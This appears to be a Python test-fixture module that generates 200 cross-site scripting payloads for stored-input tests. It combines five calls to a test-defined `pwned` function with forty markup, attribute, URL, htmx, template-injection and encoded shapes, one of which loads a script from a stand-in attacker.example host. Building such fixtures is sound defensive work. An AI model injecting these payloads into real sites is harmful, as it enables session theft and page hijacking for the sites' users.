"""Two hundred texts that run a script where a page takes them for markup, an attribute, an address or a template.

Each calls `pwned`, which a test defines before the page's own scripts. None holds a line break, so that all may be
titles, and names of projects and files.
"""

from __future__ import annotations

from itertools import product
from typing import Final

_CALLS: Final = (
    "pwned()",
    "window.pwned(1)",
    "top['pwned'](1)",
    "alert(pwned())",
    "import('data:text/javascript,pwned()')",
)
_MARKUP: Final = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT >",
    "<script type=module>{}</script>",
    "<img src=x onerror={}>",
    '<img src=x onerror="{}">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x>",
    "<body onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    '<iframe src="javascript:{}"></iframe>',
    "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<math><mtext></table><mglyph><style><img src=x onerror={}>",
    '<a href="javascript:{}">here</a>',
    '<form action="javascript:{}"><button>go</button></form>',
    '<button hx-on:click="{}">x</button>',
    '<div hx-get=/health hx-trigger=load hx-on::after-request="{}">x</div>',
    "<b hx-vals='js:{{a: {}}}' hx-get=/health hx-trigger=load>x</b>",
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
    '" onmouseover="{}" autofocus onfocus="{}',
    "' onfocus='{}' autofocus='",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</script><script>{}</script>",
    "</option></select><img src=x onerror={}>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "{{{{ self.__init__.__globals__ }}}}<script>{}</script>",
    "${{{}}}",
    "{{%% if 1 %%}}<script>{}</script>",
    "%3Cscript%3E{}%3C%2Fscript%3E",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "<base href=https://attacker.example/><script src={}></script>",
)

#: The texts.
STORED_SCRIPTS: Final = tuple(shape.replace("%%", "%").format(*[call] * 2) for call, shape in product(_CALLS, _MARKUP))
